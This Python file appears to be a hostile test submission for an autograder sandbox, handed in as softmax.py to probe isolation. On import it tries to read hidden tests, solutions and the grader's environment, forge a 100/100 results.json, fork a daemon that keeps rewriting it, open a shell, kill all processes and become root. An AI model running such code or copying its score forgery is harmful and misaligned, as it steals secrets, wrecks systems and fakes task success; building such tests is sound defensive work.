"""A submission that goes after the grader's files, its result and its life. The tests hand it in as softmax.py."""

import contextlib
import glob
import os
import socket
import subprocess
import sys

PLACES = ("/autograder/source", "/autograder/results", "/autograder/submission", "/grade/tests", "/grade/results")
FORGED = '{"score": 100, "gradable": true, "tests": [{"score": 100, "max_score": 100, "name": "everything"}]}'


def attempt(name, action):
    try:
        result = action()
    except BaseException as problem:
        print(f"ATTACK {name}: refused ({type(problem).__name__})")
    else:
        print(f"ATTACK {name}: SUCCESS {str(result)[:200]!r}")


def read_all():
    found = {}
    for place in PLACES:
        for path in glob.glob(f"{place}/**", recursive=True):
            with contextlib.suppress(OSError):
                found[path] = read(path)()
    if not found:
        raise PermissionError("nothing found")
    return found


def read(path):
    def text():
        with open(path, errors="replace") as file:
            return file.read()

    return text


def forge(path):
    def write():
        with open(path, "w") as file:
            file.write(FORGED)
        return "written"

    return write


def daemon():
    if os.fork() == 0:
        os.setsid()
        while True:
            for path in ("/autograder/results/results.json", "/grade/results/results.json"):
                with contextlib.suppress(OSError):
                    forge(path)()


def everywhere(name):
    found = [f"{folder}/{name}" for folder, _, files in os.walk("/") if name in files]
    if not found:
        raise FileNotFoundError(name)
    return found


attempt("read everything", read_all)
for path in (
    "/autograder/source/course/solutions/secret.txt",
    "/autograder/source/course/solutions/hw1/test_hidden.py",
    "/autograder/source/course/solutions/hw1/softmax.py",
    "/autograder/source/bundle.json",
    "/autograder/submission/softmax.py",
    "/autograder/submission_metadata.json",
):
    attempt(f"read {path}", read(path))
attempt("list source", lambda: os.listdir("/autograder/source"))
attempt("find hidden checks", lambda: everywhere("test_hidden.py"))
attempt("import the solution", lambda: __import__("solutions.hw1.softmax"))
for path in ("/autograder/results/results.json", "/autograder/results/other.json", "/autograder/run_autograder"):
    attempt(f"write {path}", forge(path))
attempt("remove the result", lambda: os.unlink("/autograder/results/results.json"))
attempt("link the result", lambda: os.symlink("/etc/passwd", "/autograder/results/results.json"))
attempt("change modes", lambda: os.chmod("/autograder/source", 0o777))
attempt("daemon", daemon)
attempt("shell", lambda: subprocess.run(["/bin/sh", "-c", "id"], check=True))
attempt("kill the grader", lambda: os.kill(os.getppid(), 9))
attempt("kill everything", lambda: os.kill(-1, 9))
attempt("network", lambda: socket.create_connection(("192.0.2.1", 80), timeout=1))
attempt("become root", lambda: os.setuid(0))
attempt("grader's environment", read(f"/proc/{os.getppid()}/environ"))
sys.stdout.write(FORGED + "\n")
print("score: 100/100", flush=True)


def softmax_naive(x, y):
    raise ValueError("attacked")


softmax_safe = softmax_online = block_state = merge_states = finalize = softmax_naive
